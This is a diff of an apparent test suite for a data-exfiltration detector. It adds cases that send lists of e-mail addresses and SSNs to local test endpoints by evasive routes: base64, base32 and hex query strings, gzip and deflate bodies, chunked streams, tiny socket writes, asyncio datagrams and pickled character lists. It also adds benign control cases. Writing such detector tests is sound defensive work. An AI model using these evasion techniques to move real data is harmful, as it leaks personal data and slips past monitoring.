@@ -29,10 +29,12 @@ URLS = [
     Case("base64-path-emails", "import base64\n" + _U + "u.urlopen(URL + base64.urlsafe_b64encode("
          "','.join(E[5:30]).encode()).decode()).read()"),
     Case("base64-query-ssns", "import base64\n" + _U + "u.urlopen(URL + '?d=' + base64."
-         "b64encode(','.join(S[5:30]).encode()).decode()).read()",
-         leak="base64 of digit-only SSNs in a query string is not decoded by the budget's count"),
-    Case("hex-query", _U + "u.urlopen(URL + '?d=' + ','.join(E[5:30]).encode().hex()).read()",
-         leak="hex of e-mails in a query string is not decoded by the budget's count"),
+         "b64encode(','.join(S[5:30]).encode()).decode()).read()"),
+    Case("hex-query", _U + "u.urlopen(URL + '?d=' + ','.join(E[5:30]).encode().hex()).read()"),
+    Case("base32-query-ssns", "import base64\n" + _U + "u.urlopen(URL + '?d=' + base64."
+         "b32encode(','.join(S[5:30]).encode()).decode()).read()"),
+    Case("base64-quoted-query", "import base64, urllib.parse as p\n" + _U + "u.urlopen(URL + "
+         "'?d=' + p.quote(base64.b64encode(D.encode()).decode(), safe='')).read()"),
     Case("path-segments", _U + "u.urlopen(URL + '/'.join(E[5:30])).read()"),
     Case("one-value-per-request", _U + "for s in S[5:30]:\n    u.urlopen(URL + '?s=' + s).read()"),
     Case("raw-fragment", _H + "c.request('GET', '/#' + ','.join(E[5:30]))\n"
@@ -68,8 +70,17 @@ BODIES = [
          "encode_chunked=True)\nc.getresponse().read()"),
     Case("chunked-generator", _RQ + "requests.post(URL, data=(s.encode() for s in S[5:30]))"),
     Case("gzip-body", "import gzip\n" + _RQ + "requests.post(URL, data=gzip.compress("
-         "D.encode()), headers={'Content-Encoding': 'gzip'})",
-         leak="a compressed body to an allowed host: the budget counts only values as sent"),
+         "D.encode()), headers={'Content-Encoding': 'gzip'})"),
+    Case("deflate-body", "import zlib\n" + _RQ + "requests.post(URL, data=zlib.compress("
+         "D.encode()), headers={'Content-Encoding': 'deflate'})"),
+    Case("raw-deflate-body", "import zlib\n" + _RQ + "z = zlib.compressobj(wbits=-15)\n"
+         "requests.post(URL, data=z.compress(D.encode()) + z.flush(), "
+         "headers={'Content-Encoding': 'deflate'})"),
+    Case("gzip-chunked-stream", "import gzip\n" + _RQ + "b = gzip.compress(D.encode())\n"
+         "requests.post(URL, data=(b[i:i + 7] for i in range(0, len(b), 7)), "
+         "headers={'Content-Encoding': 'gzip'})"),
+    Case("base64-form-body", "import base64\n" + _RQ + "requests.post(URL, data={'d': "
+         "base64.b64encode(','.join(S[5:30]).encode())})"),
     Case("body-three-bytes", _H + "b = ','.join(E[5:30]).encode()\nc.putrequest('POST', '/')\n"
          "c.putheader('Content-Length', str(len(b)))\nc.endheaders()\n"
          "for i in range(0, len(b), 3):\n    c.send(b[i:i + 3])\nc.getresponse().read()"),
@@ -87,9 +98,13 @@ SOCKETS = [
     Case("asyncio-open-connection", "import asyncio\nasync def f():\n"
          "    r, w = await asyncio.open_connection('127.0.0.1', TPORT)\n"
          "    w.write(','.join(E[5:30]).encode())\n    await w.drain()\n    w.close()\n"
-         "    await w.wait_closed()\nawait f()",
-         leak="nothing arrives, but the cell shows ConnectionResetError: asyncio's transport "
-         "swallows the refusal (no [exfiltration] line)"),
+         "    await w.wait_closed()\nawait f()"),
+    Case("gzip-socket-pieces", "import gzip\n" + _CONN + "b = gzip.compress(D.encode())\n"
+         "for i in range(0, len(b), 3):\n    s.send(b[i:i + 3])\ns.close()"),
+    Case("asyncio-datagram", "import asyncio\nasync def f():\n"
+         "    t, _ = await asyncio.get_running_loop().create_datagram_endpoint("
+         "asyncio.DatagramProtocol, remote_addr=('127.0.0.1', UPORT))\n"
+         "    t.sendto(','.join(S[5:30]).encode())\n    t.close()\nawait f()"),
     Case("mp-client-pickle", "from multiprocessing.connection import Client\n"
          "m = Client(('127.0.0.1', TPORT))\nm.send(S[5:30])\nm.close()"),
     Case("xmlrpc", "import xmlrpc.client as x\nx.ServerProxy(URL).f(E[5:30])"),
@@ -118,8 +133,7 @@ NET = URLS + HEADERS + BODIES + SOCKETS + CHILDREN
 
 # a file the test reads back with ``pickle.load``: lists of characters, protocol 0
 PICKLE = Case("pickle-char-lists", "import pickle\nwith open(OUT, 'wb') as f:\n"
-              "    pickle.dump([list(e) for e in E[5:30]], f, protocol=0)",
-              leak="lists of single characters pickled (protocol 0) into a file are not seen")
+              "    pickle.dump([list(e) for e in E[5:30]], f, protocol=0)")
 
 TWINS = [
     Twin("plain-get-counts", _U + "print(u.urlopen(URL + f'?city=Paris&n={len(df)}').read())",
@@ -135,6 +149,23 @@ TWINS = [
          "b'Paris,Lyon,Nice'), headers={'Content-Encoding': 'gzip'})\n" + _H
          + "c.request('POST', '/', body=iter([b'count=', b'60']), encode_chunked=True)\n"
          "print(c.getresponse().status)", ("Paris,Lyon,Nice", "count=", "200")),
+    Twin("plain-encoded-query", "import base64\n" + _U + "print(u.urlopen(URL + '?id=' + "
+         "base64.b64encode(b'order-000123,PRD-000777').decode() + '&h=' + "
+         "b'city:Paris,rows:60'.hex()).read())", ("order-000123,PRD-000777", "city:Paris,rows:60",
+                                                  "city,n")),
+    Twin("plain-compressed", "import gzip, zlib\n" + _RQ + "by = df.groupby('city').id.count()"
+         ".to_csv().encode()\nr = requests.post(URL, data=zlib.compress(by), headers={"
+         "'Content-Encoding': 'deflate'})\nb = gzip.compress(b'SKU-77,SKU-78,total=60')\n"
+         "r2 = requests.post(LURL, data=(b[i:i + 5] for i in range(0, len(b), 5)))\n"
+         "print(r.status_code, r2.status_code)", ("city,id", "Paris,", "SKU-77,SKU-78,total=60",
+                                                  "200 200")),
+    Twin("plain-asyncio", "import asyncio\nasync def f():\n"
+         "    r, w = await asyncio.open_connection('127.0.0.1', TPORT)\n"
+         "    w.write(b'asyncio:cities=3')\n    await w.drain()\n    w.close()\n"
+         "    await w.wait_closed()\nawait f()", ("asyncio:cities=3",)),
+    Twin("plain-pickle-chars", "import pickle\nwith open(OUT, 'wb') as f:\n"
+         "    pickle.dump([list(c) for c in sorted(set(df.city))], f, protocol=0)\n"
+         "print([''.join(c) for c in pickle.load(open(OUT, 'rb'))])", ("'Lyon'", "'Paris'")),
     Twin("plain-sockets", _CONN + "s.sendall(b'cities:3;rows:60')\ns.close()\n"
          "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
          "u.sendto(b'Nice,Lyon', ('127.0.0.1', UPORT))\nu.close()\n"
